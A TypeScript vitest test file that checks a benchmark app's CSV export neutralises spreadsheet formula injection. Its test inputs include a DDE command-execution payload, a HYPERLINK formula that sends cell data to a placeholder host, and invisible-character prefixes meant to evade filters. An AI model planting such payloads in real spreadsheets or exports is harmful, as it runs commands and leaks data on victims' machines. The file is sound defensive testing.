import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { expect, it } from 'vitest';
import { GET as exportRun } from '@/app/api/runs/[id]/export/route';
import { sanitizeText } from '@/lib/db/sanitize-text';
import { db } from '@/lib/db/server/pool';
import { createRun } from '@/lib/runs/server/create-run';
import { seedCollection, seedProvider } from '@/lib/testing/seed-run';

const seed = 20_261_121;

/** What spreadsheets take for the beginning of a formula, after what they skip before it. */
const formula = /^[\s\p{Cc}\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f]*[=+\-@＝＋－＠]/u;
const runs = (cell: string) => formula.test(cell) || /^[\t\r]/.test(cell);

const starts = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t',
  '\r',
  '\n',
  ' ',
  '"',
  "'",
  ';',
  ',',
  '|',
  '\ufeff',
  '\u00a0',
  '\u3000',
];
const texts = [
  ...starts,
  ...starts.flatMap((start) => [
    `${start}1+1`,
    ` ${start}1`,
    `\t${start}1`,
    `\r\n${start}1`,
    `${start}=1`,
    `x${start}=1`,
    `"${start}"`,
  ]),
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://x/?"&A1,"a")',
  '+1;=1',
  '\u200b=1',
  '\u0001=1',
  '\u001f@x',
  '\\.',
  '\\N',
  'NULL',
  '\u202e=1',
  `${' '.repeat(199)}=1`,
  `${' '.repeat(200)}=1`,
  `${'\n'.repeat(5000)}=1`,
  'a "quoted" text; with, separators\nand\r\nlines \u{1f600}',
  ...fc.sample(
    fc
      .tuple(fc.constantFrom('', ...starts), fc.string({ unit: 'binary', maxLength: 40 }))
      .map((parts) => parts.join('')),
    { seed, numRuns: 200 },
  ),
].map((text) => sanitizeText(text).text);

/** Puts a text of its own into each place of each item that a model, a judge, a server or an author writes. */
async function writeTexts(runId: string, providerId: string): Promise<void> {
  const { rows: items } = await db().query<{
    id: string;
    run_group_id: string;
    task: string;
    version: string;
  }>(
    `select id, run_group_id, benchmark_task_id as task, task_version_id as version from benchmark_item
     where benchmark_run_id = $1 order by id`,
    [runId],
  );
  const attempt = `insert into benchmark_attempt (benchmark_run_id, run_group_id, benchmark_item_id, kind, epoch, state, answer)
    values ($1, $2, $3, $4, 1, 'SUCCEEDED', $5) returning id`;
  for (const [index, { id, run_group_id: group, task, version }] of items.entries()) {
    const text = texts[index]!;
    const answer = await db().query<{ id: string }>(attempt, [runId, group, id, 'GENERATION', text]);
    const judging = await db().query<{ id: string }>(attempt, [runId, group, id, 'JUDGE', text]);
    const verdict = await db().query<{ id: string }>(
      `insert into verdict (benchmark_run_id, benchmark_item_id, attempt_id, judge_provider_config_id, judge_model_name,
         schema_version, template_hash, overall_score, accuracy_score, format_score, compliance_score, reasoning)
       values ($1, $2, $3, $4, $5, 'assay-verdict/1', repeat('0', 64), 1, 1, 1, 1, $6) returning id`,
      [runId, id, judging.rows[0]!.id, providerId, text.slice(0, 150), text],
    );
    await db().query(
      'update benchmark_item set answer_attempt_id = $2, verdict_id = $3, error_msg = $4 where id = $1',
      [id, answer.rows[0]!.id, verdict.rows[0]!.id, text],
    );
    // Unique, so the number stands behind.
    await db().query('update benchmark_task set task_id = $2 where id = $1', [
      task,
      `${text.slice(0, 150)}#${index}`,
    ]);
    await db().query(
      'update benchmark_task_version set category = $2, subcategory = $2, question = $3 where id = $1',
      [version, text.slice(0, 150), text],
    );
  }
}

async function exportedRows(id: string): Promise<Record<string, string>[]> {
  const response = await exportRun(new Request('http://127.0.0.1/'), { params: Promise.resolve({ id }) });
  return parse(await response.text(), { columns: true });
}

it('exports no cell that a spreadsheet would run, and every text as it was', async () => {
  const provider = '=1+1';
  const model = '@SUM(1)';
  const providerId = await seedProvider({ name: provider });
  const { collectionId } = await seedCollection(texts.length);
  const target = { providerId, model };
  const run = await createRun({ judge: target, targets: [target], collectionIds: [collectionId] });
  await writeTexts(run.id, providerId);

  const rows = await exportedRows(run.id);
  expect(rows).toHaveLength(texts.length);
  const cells = rows.flatMap((row) => Object.entries(row));
  expect(cells.filter(([, cell]) => runs(cell)).map((cell) => JSON.stringify(cell))).toEqual([]);

  const neutral = (text: string) => (runs(text) ? `'${text}` : text);
  for (const [index, row] of rows.entries()) {
    const text = texts[index]!;
    expect(row).toMatchObject({
      task_id: neutral(`${text.slice(0, 150)}#${index}`),
      category: neutral(text.slice(0, 150)),
      subcategory: neutral(text.slice(0, 150)),
      provider: `'${provider}`,
      model: `'${model}`,
      judge_model: neutral(text.slice(0, 150)),
      ...Object.fromEntries(
        ['question', 'response', 'judge_reasoning', 'error_msg'].map((name) => [name, neutral(text)]),
      ),
    });
  }
  // Both kinds were there, so neither expectation was empty.
  expect(texts.filter(runs).length).toBeGreaterThan(50);
  expect(texts.filter((text) => !runs(text)).length).toBeGreaterThan(50);
});

it('leaves numbers as numbers', async () => {
  const { rows } = await db().query<{ id: string }>('select max(id) as id from benchmark_run');
  await db().query('update benchmark_item set evaluation_score = -1.5, ttft_ms = 12.25');
  const exported = await exportedRows(rows[0]!.id);
  expect(exported[0]).toMatchObject({ score: '-1.5', ttft_ms: '12.250', repetition: '1' });
});
